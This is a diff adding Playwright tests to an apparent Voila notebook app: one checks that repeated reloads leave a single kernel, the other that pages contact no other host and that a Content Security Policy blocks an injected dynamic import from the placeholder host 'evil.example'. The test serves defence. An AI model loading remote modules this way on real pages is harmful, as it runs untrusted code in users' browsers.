@@ -60,3 +60,50 @@ def test_charts_load_plotly_once_from_the_kits_server(page, voila_url):
     plotly_js = [url for url in scripts if url.endswith(".min.js")]
     assert len(plotly_js) == 1 and "/voila/labextensions/changekit-assets/plotly-" in plotly_js[0]
     finish(page, "class-plotly-once")
+
+
+def test_twenty_reloads_leave_no_kernel_behind(page, tmp_path):
+    import json
+
+    cells = [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
+              "source": "import ipywidgets\nipywidgets.Button(description='Reload me')"}]
+    (tmp_path / "small.ipynb").write_text(json.dumps({"cells": cells, "metadata": {}, "nbformat": 4,
+                                                      "nbformat_minor": 5}))
+    with VoilaServer(tmp_path, ARTIFACTS / "class-reloads.log") as server:
+        page.goto(f"{server.url}/voila/render/small.ipynb")
+        visible(page.get_by_role("button", name="Reload me"), what="the page's button")
+        for _ in range(20):
+            page.reload()
+            visible(page.get_by_role("button", name="Reload me"), what="the reloaded page's button")
+        # every reload's old page posted its shutdown (refused before: voila#1458)
+        wait_until(page, lambda: len(server.kernel_pids()) == 1, what="one kernel: the open page's",
+                   timeout_ms=60_000)
+        assert "_xsrf" not in server.log_text()
+
+
+def test_a_page_asks_no_other_host_and_breaks_no_rule_of_its_policy(page, voila_url):
+    from urllib.parse import urlsplit
+
+    server_host = urlsplit(voila_url).netloc
+    elsewhere, violations = [], []
+    page.on("request", lambda request: elsewhere.append(request.url)
+            if urlsplit(request.url).netloc not in (server_host, "") and not request.url.startswith(("data:", "blob:"))
+            else None)
+    page.on("console", lambda message: violations.append(message.text)
+            if "Content Security Policy" in message.text else None)
+    open_app(page, voila_url, "cha_ching.ipynb", "Draw from the deck")
+    traces = check_question(page, "cha_ching.q1")
+    assert traces and all(t > 0 for t in traces)  # plotly drew the chart under the policy
+    assert elsewhere == [] and violations == []
+    finish(page, "class-no-other-host")
+    # an injected payload cannot load a module from another host (on a page of its own: the
+    # refusal is a console error, which would fail the watched page)
+    probe = page.context.new_page()
+    refused = []
+    probe.on("console", lambda message: refused.append(message.text) if "Content Security Policy" in message.text
+             else None)
+    probe.goto(f"{voila_url}/voila/tree")
+    outcome = probe.evaluate("""async () => { try { await import('//evil.example/x.js'); return 'loaded' }
+                                              catch (e) { return 'blocked' } }""")
+    assert outcome == "blocked" and any("evil.example" in text for text in refused)
+    probe.close()
